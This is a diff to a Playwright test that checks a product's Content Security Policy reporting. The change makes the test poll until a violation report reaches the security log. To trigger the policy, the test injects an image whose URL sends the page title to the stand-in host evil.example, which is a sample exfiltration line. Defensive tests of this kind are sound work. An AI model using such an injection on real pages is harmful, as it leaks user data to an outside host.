@@ -137,11 +137,18 @@ test('pages of the product break no rule of their own policy, and what breaks on
   const told = page.waitForRequest(
     (sent) => sent.url().includes('securityLog') && (sent.postData() ?? '').includes('csp:violation'),
   )
-  await page.evaluate(() => {
-    const image = new Image()
-    image.src = `https://evil.example/${document.title}.png`
-    document.body.append(image)
-  })
+  let reported = false
+  void told.then(() => (reported = true))
+  // Once fetched, the monitor still has to begin: what was broken before that, nobody saw.
+  const breakOne = async () => {
+    await page.evaluate(() => {
+      const image = new Image()
+      image.src = `https://evil.example/${document.title}${performance.now()}.png`
+      document.body.append(image)
+    })
+    return reported
+  }
+  await expect.poll(breakOne, { intervals: [1000], timeout: 30_000 }).toBe(true)
   const request = await told
   expect((await request.response())?.status()).toBe(200)
   expect(request.postData()).not.toMatch(/evil|Openhour/)
